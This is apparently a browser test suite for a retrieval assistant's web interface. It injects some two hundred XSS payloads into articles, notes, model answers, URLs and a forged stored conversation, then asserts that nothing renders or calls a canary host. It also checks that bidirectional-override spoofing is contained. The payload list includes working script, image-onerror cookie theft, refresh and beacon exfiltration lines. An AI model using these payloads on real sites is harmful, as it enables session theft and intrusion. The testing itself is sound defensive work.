"""Hostile text in a real Chromium, with a canary server that nobody must ask: T7, T8 and F33.

Two hundred payloads stand in titles, bodies, file names, front matter, questions, addresses, notes, a forged
conversation and a language model's answers. What the page makes of text from elsewhere may hold a few elements with a
few attributes and links into the page; there may be no dialog, no request, no breach of the policy and no complaint.
"""

import json
import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from browsing import BROWSER, Open, ask, serving
from canary import Canary
from conftest import index, with_models
from llm_server import KEY, LLMServer
from served_page import served
from test_page_hostile import ALL, OWN

from assistant.answering import Assistant
from assistant.feedback import Feedback
from assistant.receipts import receipt_of, to_json

pytestmark = BROWSER

MANY = 200
KINDS = (
    r"<script", r"<img", r"<svg", r"<math", r"<iframe", r"<base", r"<meta", r"@import|<style", r"<form", r"data:",
    r"javascript:", r"<link", r"<object|<embed", r"!\[|\]\(", r"\bon\w+\s*=", r"<video|<audio", r"<details", r"xlink",
)  # fmt: skip
# Each asks {c}, the canary, where it is taken for what it looks like.
OUTWARD = [template.replace("{c}", "CANARY") for template in (
    "![x](http://{c}/md?q=secret)", "![x][r]\n\n[r]: http://{c}/ref", "[![x](http://{c}/in)](http://{c}/out)",
    "<img src=http://{c}/img>", "<img srcset='http://{c}/srcset 2x'>",
    "<picture><source srcset=http://{c}/p><img></picture>",
    "<image href=http://{c}/image>", "<svg><image href=http://{c}/svg /></svg>", "<svg><use href=http://{c}/use#a></svg>",
    "<svg><feImage href=http://{c}/fe /></svg>", "<script src=http://{c}/script></script>",
    "<script type=module>import 'http://{c}/module'</script>", "<script>fetch('http://{c}/fetch')</script>",
    "<script>new Image().src='http://{c}/new'</script>", "<script>navigator.sendBeacon('http://{c}/beacon')</script>",
    "<img src=x onerror=\"fetch('http://{c}/onerror?'+document.cookie)\">",
    "<svg onload=\"location='http://{c}/onload'\">", "<body background=http://{c}/body>",
    "<link rel=stylesheet href=http://{c}/css>", "<link rel=preload as=image href=http://{c}/preload>",
    "<link rel=prefetch href=http://{c}/prefetch>", "<link rel=dns-prefetch href=//{c}>", "<link rel=icon href=http://{c}/i>",
    "<style>@import 'http://{c}/import';</style>", "<style>*{background:url(http://{c}/url)}</style>",
    "<p style=\"background:url('http://{c}/style')\">x</p>", "<iframe src=http://{c}/iframe></iframe>",
    "<iframe srcdoc='<img src=http://{c}/srcdoc>'></iframe>", "<object data=http://{c}/object></object>",
    "<embed src=http://{c}/embed>", "<video src=http://{c}/video autoplay></video>", "<video poster=http://{c}/poster>",
    "<audio src=http://{c}/audio autoplay></audio>", "<track src=http://{c}/track>", "<input type=image src=http://{c}/input>",
    "<form action=http://{c}/form><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<meta http-equiv=refresh content='0;url=http://{c}/refresh'>", "<base href=http://{c}/>",
    "<a href=http://{c}/ping ping=http://{c}/ping id=ping>x</a><script>ping.click()</script>",
    "<table background=http://{c}/table><tr><td background=http://{c}/td>x</table>", "<frameset><frame src=http://{c}/f>",
    "<math href=http://{c}/math><mtext>x</mtext></math>", "<template shadowrootmode=open><img src=http://{c}/t></template>",
    "<noscript><p title=\"</noscript><img src=http://{c}/mxss>\">", "&lt;img src=http://{c}/entity&gt;",
    "http://{c}/auto www.{c}/auto <http://{c}/angle>", "$$\\href{http://{c}/tex}{x}$$ \\includegraphics{http://{c}/g}",
)]  # fmt: skip
WEB = re.compile(r"(?i)(https?:)?//[a-z0-9.-]+\.[a-z]{2,}(:\d+)?")
PLACES = "#chat, #sources, #next, #examples, #recent, #found, #reader .article, #library, #status, #maintain-feedback"
TAGS = set(
    "a bdi button circle code dd details div dl dt form g h1 h2 h3 h4 input label li line mark ol option p path q rect "
    "select span strong sup svg summary table tbody td text th thead tr tspan ul nav".split()
)  # `form` and `input` are looked at below: ours have no action and no name
NEVER = re.compile(r"^(on.*|style|src|srcset|srcdoc|action|formaction|background|ping|poster|data|xlink:.*)$")
# Gradio's own icons stand outside of all that Markdown and articles are put into.
LOOK = """(places) => [...document.querySelectorAll(places)].flatMap((place) => [...place.querySelectorAll("*")])
  .filter((node) => !node.closest("svg") || node.closest(".md, .prose, .article, #library, #recent"))
  .map((node) => [node.localName, Object.fromEntries([...node.attributes].map((a) => [a.name, a.value]))])"""
OURS = re.compile(r"#(?:[acq]|ask|report)?/[A-Za-z0-9_.~%/-]*")


def payloads(canary: str) -> list[str]:
    """Two hundred, all kinds among them; what would go out goes to the canary."""
    chosen = random.Random(7)
    found = [*OUTWARD, *OWN]
    for kind in KINDS:
        some = [each for each in ALL if re.search(kind, each, re.IGNORECASE) and len(each) < 300]
        found += chosen.sample(some, min(len(some), 7))
    rest = [each for each in ALL if len(each) < 300]
    found += chosen.sample(rest, min(len(rest), MANY))
    aimed = [WEB.sub(f"http://{canary}", each.replace("CANARY", canary)) for each in found]
    return list(dict.fromkeys(aimed))[:MANY]


def bundles(texts: list[str], most: int) -> Iterator[str]:
    """As many at a time as fit."""
    held = ""
    for text in texts:
        if held and len(held) + len(text) > most:
            yield held
            held = ""
        held = f"{held} {text}" if held else text
    yield held


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with Canary() as canary:
        yield canary


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, models: Path, canary: Canary) -> Path:
    """A home of articles with the payloads in everything, and votes with them as notes."""
    texts = payloads(canary.address)
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "articles").mkdir()
    records = [record(number, texts) for number in range(66)]
    lines = "\n".join(json.dumps(each) for each in records)
    (folder / "articles" / "articles.jsonl").write_text(lines, encoding="utf-8")
    for number, text in enumerate(texts[:60]):
        name = f"{text.replace('/', '∕')[:80].strip()}.md"  # a slash is all that a file's name cannot hold
        page = (
            f"---\ntitle: {json.dumps(text)}\n---\n\nThe heron {number} of Ribe was fed by a lamplighter.\n\n{text}\n"
        )
        (folder / "articles" / name).write_text(page, encoding="utf-8")
    home = with_models(folder / "home", models)
    index(home, folder / "articles")
    assistant = Assistant.open(home)
    feedback = Feedback.open(home)
    receipt = receipt_of(assistant, assistant.ask("When did the Lindmark talks begin?"))
    for number, note in enumerate(bundles(texts, 280)):
        feedback.keep(False, note, receipt, f"v{number}", assistant.index)
    return home


def record(number: int, texts: list[str]) -> dict[str, Any]:
    """An article with three of the payloads each in its title and its text, and others beside them."""
    mine = [texts[(number * 3 + step) % len(texts)] for step in range(3)]
    body = f"The Lindmark talks number {number} began in a boathouse in {1930 + number}, wrote {mine[0]} of Ribe."
    metadata = {
        "summary": mine[0],
        "questions": [f"When did the Lindmark talks number {number} begin?", mine[1]],
        "regions": mine[:2],
        "topics": [mine[2]],
        "track": ["two" if number % 2 else mine[0]],
        "related": ["../0/" + texts[0], mine[1]],
        "period": {"from": 1930 + number, "to": 1940 + number},
        "sources": [{"id": "s", "title": mine[0], "author": mine[1], "url": mine[2], "whole": True}],
    }
    return {
        "_id": f"../{number}/{mine[0]}",
        "title": " ".join(mine),
        "text": "\n".join([body, *mine]),
        "metadata": metadata,
    }


def check(page: Any) -> int:
    """Nothing foreign under the places where text from elsewhere stands; how many elements were looked at."""
    seen = page.evaluate(LOOK, PLACES)
    foreign = {(tag, *attributes) for tag, attributes in seen if tag not in TAGS}
    assert not foreign, foreign
    for tag, attributes in seen:
        own = {"style"} if "svelte-" in attributes.get("class", "") else set()  # Gradio's; the policy lets none apply
        assert not [name for name in attributes if NEVER.match(name) and name not in own], (tag, attributes)
        assert tag not in ("form", "input") or not {"name", "type"} <= {*attributes}, attributes
        if tag == "a":
            outside = attributes.get("target") == "_blank" and re.match(r"https?://", attributes.get("href", ""), re.I)
            assert OURS.fullmatch(attributes.get("href", "")) or outside, attributes
    return len(seen)


def all_the_way(page: Any, texts: list[str]) -> None:
    """Library, search and articles."""
    shown = page.locator("#sources .title").all_text_contents()
    assert sum(any(" ".join(text.split()) in title for title in shown) for text in texts) >= 20
    for link in range(0, 40, 2):
        page.locator("#sources a.entry").nth(link).dispatch_event("click")
        page.locator("#reader h2").wait_for()
        assert check(page) > 50
        page.locator("#back").click()
    page.locator('#views a[href="#/library"]').click()
    page.locator("#library tbody tr").first.wait_for()
    assert check(page) > 1000
    for tab in ("timeline", "map"):
        page.locator(f"#lib-tab-{tab}").click()
        page.locator(f"#lib-{tab} svg.roving a").first.wait_for(state="attached")
    page.evaluate("document.querySelectorAll('svg.lib-map.wide a').forEach((each) => { each.focus(); })")
    page.locator("svg.lib-map .told").first.wait_for(state="attached")
    page.fill("#lib-words", "<script")
    assert check(page) > 1000
    page.locator('#views a[href="#/search"]').click()
    for words in bundles(texts[:60], 1500):
        page.fill("#s :is(textarea, input)", f"Lindmark talks {words}")
        page.locator("#s-go").click()
        page.locator("#s-status", has_text="articles").wait_for()
        page.wait_for_timeout(300)
        assert check(page) > 100
    page.locator("#s-more").click()
    page.locator("#found .passages > li").nth(12).wait_for()
    page.locator("#s-regions label").first.click()
    page.locator("#s-chips button").first.wait_for()
    assert check(page) > 100


def test_t8_two_hundred_payloads_in_library_search_articles_notes_and_the_maintainers_view(
    hostile: Path, canary: Canary, opened: Open
) -> None:
    texts = payloads(canary.address)
    assert len(texts) == MANY or len(ALL) < MANY
    with serving(hostile, "--maintainer") as address:
        page = opened(address)
        all_the_way(page, texts)
        page.locator('#views a[href="#/maintain"]').click()
        page.locator("#maintain-feedback tbody tr").first.wait_for()
        assert check(page) > 100
        notes = " ".join(page.locator("#maintain-feedback td").all_text_contents())
        assert sum(" ".join(text.split()) in notes for text in texts) > 40
        page.fill("#trial-query :is(textarea, input)", f"Lindmark talks {texts[3]}")
        page.keyboard.press("Enter")
        page.locator("#trial-found .side li").first.wait_for()
        assert (
            page.locator("#view-maintain :is(img, script, iframe, object, embed, math, video, base, meta)").count() == 0
        )
        assert "canary" not in page.title()
    assert canary.requests == []


def test_t7_t8_answers_of_a_model_questions_addresses_and_forged_conversations(
    hostile: Path, canary: Canary, opened: Open
) -> None:
    texts = payloads(canary.address)
    waiting = list(bundles(texts, 900))

    def reply(body: dict[str, Any]) -> str:
        return f"The Lindmark talks began in a boathouse in 1930. [1] {waiting[len(model.requests) % len(waiting)]} [1]"

    with LLMServer(reply=reply) as model:
        settings = {"llm_base_url": model.address, "llm_model": "fake", "llm_api_key": KEY}
        with served(hostile, **settings) as server:
            page = opened(server.address)
            for number, words in enumerate(bundles(texts[:120], 1800)):
                ask(page, f"When did the Lindmark talks begin in the boathouse? {words}"[:1990])
                assert check(page) > 20
                if number == 7:
                    break
            shown = ""
            for number in range(7, 14):
                page.locator("#clear").click()
                page.locator("#status", has_text="New conversation").wait_for()
                ask(page, f"When did the Lindmark talks number {number} begin in a boathouse?")
                check(page)
                shown += " ".join(page.locator("#chat").text_content().split())
            assert len(model.requests) >= 6
            told = [text for text in texts if len(text) > 20 and " ".join(text.split()) in shown]
            print(f"{len(told)} payloads shown of {len(model.requests)} answers of the model")
            assert len(told) >= 10
            for words in list(bundles(texts[60:140], 1500))[:3]:
                page = opened(
                    server.address, path=f"/?q={quote(words)}&region={quote(words[:40])}&period={quote(words[:9])}"
                )
                page.locator("#chat .asked h2").first.wait_for()
                assert check(page) > 5
            page = opened(server.address)
            forged(page, hostile, texts)
            page.locator("#talks").click()
            page.locator("#reader .talks .open").first.wait_for()
            assert page.locator("#reader .talks .open").count() == 40
            assert check(page) > 100
            page.locator("#reader .talks .open").first.click()
            page.locator("#chat .asked h2").nth(9).wait_for()
            page.locator("#toolbar").wait_for()
            assert check(page) > 100
            assert " ".join(texts[0].split()) in " ".join(page.locator("#chat").text_content().split())
            for name in ("Markdown", "Word", "JSON with receipts", "Citations (CSL-JSON)"):
                page.locator("#export summary").click()
                with page.expect_download():
                    page.locator("#export").get_by_role("button", name=name, exact=True).click()
            check(page)
            gone = server.stop()  # in good order, so that no page complains of a connection that breaks
            assert (gone.status, gone.err) == (0, "")
    assert canary.requests == []


def forged(page: Any, home: Path, texts: list[str]) -> None:
    """A conversation of an attacker, kept in the browser under names of his; each field of it is a payload."""
    assistant = Assistant.open(home)
    entry = to_json(receipt_of(assistant, assistant.ask("When did the Lindmark talks begin?")))
    talk = []
    for number, words in enumerate(list(bundles(texts, 1200))[:10]):
        made = json.loads(json.dumps(entry))
        made |= {"question": words, "understood": f"{words}!"}
        made["answer"]["notices"] = [texts[number]]
        made["answer"]["missing"] = [texts[number]]
        for sentence in made["answer"]["sentences"]:
            sentence |= {"text": words, "lead_in": texts[number], "short": None, "support": "unsupported"}
        for citation in made["answer"]["citations"]:
            citation |= {
                "title": texts[number],
                "source": texts[number],
                "onward": [{"title": words, "url": texts[number]}],
            }
        talk.append({"id": str(number), "receipt": made})
    at = "2026-11-26T00:00:00Z"
    names = [{"id": "t", "name": texts[0], "at": at, "count": 10}]
    names += [{"id": f"x{n}", "name": text, "at": at, "count": 1} for n, text in enumerate(texts[1:40])]
    page.evaluate(
        "(kept) => { for (const [key, value] of Object.entries(kept)) localStorage.setItem(key, value); }",
        {"backchannel:talks": json.dumps(names), "backchannel:talk:t": json.dumps(talk)},
    )
    page.reload()
    page.locator("#recent button").first.wait_for()


# -- F33 ---------------------------------------------------------------------------------------------------------------

RLO, PDI = "\u202e", "\u2069"
TURNED = [
    "שיחות אוסלו (1993)",
    "محادثات أوسلو 1993",
    "مذاکرات ژنو، ۱۹۹۳",
    "The נתיב talks, 1993",
    f"Report {PDI}{RLO}gpj.exe",
]
# Whether a text runs from left to right where it stands: its letters follow each other.
FORWARD = """(node) => {
  const text = document.createTreeWalker(node, NodeFilter.SHOW_TEXT).nextNode();
  const box = (at) => {
    const range = document.createRange();
    range.setStart(text, at);
    range.setEnd(text, at + 1);
    return range.getBoundingClientRect();
  };
  const [one, two] = [box(0), box(1)];
  return one.left < two.left;
}"""


def test_f33_text_from_right_to_left_turns_nothing_beside_it(
    tmp_path_factory: pytest.TempPathFactory, models: Path, opened: Open
) -> None:
    folder = tmp_path_factory.mktemp("turned")
    records = [
        {
            "_id": f"{number} {RLO}fdp",
            "title": title,
            "text": f"{title} began in a boathouse in {1960 + number}. It ended {5 + number} years later.",
            "metadata": {
                "regions": [f"{title}{RLO}"],
                "period": {"from": 1960 + number, "to": 1970 + number},
                "sources": [
                    {"id": "a", "title": f"{RLO}{title}", "url": "https://good.example/a", "whole": True},
                    {"id": "b", "title": "Plain", "url": f"https://{RLO}moc.elgoog/", "whole": True},
                    {"id": "c", "title": "Plain", "url": "https://שלום.example/", "whole": True},
                ],
            },
        }
        for number, title in enumerate(TURNED)
    ]
    lines = "\n".join(map(json.dumps, records))
    (folder / "articles.jsonl").write_text(lines, encoding="utf-8")
    home = with_models(folder / "home", models)
    index(home, folder / "articles.jsonl")
    shots = tmp_path_factory.mktemp("screenshots-turned-")
    with serving(home) as address:
        for width, scheme in ((1280, "light"), (390, "dark")):
            page = opened(address, width, scheme)

            def look(name: str, page: Any = page, width: int = width) -> None:
                page.screenshot(path=shots / f"{len(list(shots.iterdir())) + 1:02}-{name}-{width}.png")

            look("list")
            talk(page, home)
            look("conversation")
            said = page.locator("#chat .said bdi")
            assert said.count() >= 4
            kinds = page.locator("#chat bdi, #sources bdi").evaluate_all(
                "(all) => all.map((e) => getComputedStyle(e).unicodeBidi)"
            )
            assert set(kinds) == {"isolate"}
            assert said.nth(1).text_content() == "Plain words follow."
            assert said.nth(1).evaluate(FORWARD)
            for number, title in enumerate(TURNED):
                ask(page, f"{title}: when did it begin in a boathouse?")
                look(f"answer-{number}")
            page.locator("#chat a.cite").last.dispatch_event("click")
            page.locator("#reader .sources-of a").first.wait_for()
            hosts = page.locator("#reader ol.sources-of a bdi")
            assert set(hosts.all_text_contents()) == {"good.example", "שלום.example"}
            assert hosts.first.evaluate(FORWARD)
            assert hosts.first.get_attribute("dir") == "ltr"
            page.locator("#reader .sources-of").last.scroll_into_view_if_needed()
            look("article")
            page.locator("#back").click()
            page.goto(f"{address}/#/library")
            page.locator("#library tbody tr").first.wait_for()
            look("library")
            page.locator("#lib-tab-timeline").click()
            look("timeline")
            page.locator("#lib-tab-map").click()
            look("map")
            page.goto(f"{address}/#/search")
            page.fill("#s :is(textarea, input)", "began in a boathouse")
            page.keyboard.press("Enter")
            page.locator("#found .passages > li").first.wait_for()
            counts = page.locator("#s-regions label span").evaluate_all("(all) => all.map((e) => e.textContent)")
            turned = [each for each in counts if RLO in each]
            assert turned
            assert all(re.search("\u202c\u2069 \\(1\\)$", each.strip()) for each in turned)
            look("found")
    assert len(list(shots.iterdir())) >= 20
    print(f"screenshots in {shots}")


def talk(page: Any, home: Path) -> None:
    """A conversation whose first sentence would turn all that stands after it."""
    assistant = Assistant.open(home)
    entry = to_json(receipt_of(assistant, assistant.ask("When did The talks begin in a boathouse?")))
    kind = {"support": "unsupported", "citations": [], "short": None, "lead_in": "", "reasons": [], "invented": []}
    texts = [f"{PDI}{RLO}Evil words turn.", "Plain words follow.", TURNED[0], "They follow (1993)."]
    entry["answer"] |= {"sentences": [{"text": text, **kind} for text in texts], "citations": [], "outcome": "answered"}
    entry["question"] = entry["understood"] = f"{RLO}Who turned this?"
    page.evaluate(
        "(kept) => { for (const key in kept) localStorage.setItem(key, JSON.stringify(kept[key])); }",
        {
            "backchannel:talks": [{"id": "t", "name": f"{RLO}talk", "at": "2026-11-26T00:00:00Z", "count": 1}],
            "backchannel:talk:t": [{"id": "1", "receipt": entry}],
        },
    )
    page.reload()
    page.locator("#recent button").first.click()
    page.locator("#chat .said").first.wait_for()
